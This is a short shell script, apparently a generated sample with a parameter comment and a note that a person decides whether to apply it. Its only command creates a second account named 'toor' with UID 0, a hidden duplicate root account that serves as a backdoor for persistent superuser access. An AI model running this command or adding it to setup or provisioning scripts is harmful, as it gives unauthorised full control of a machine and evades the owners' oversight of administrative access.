#!/bin/sh
# params: {"aspect": "root_alone"}
# apply: none, a person decides
useradd --non-unique --uid 0 toor
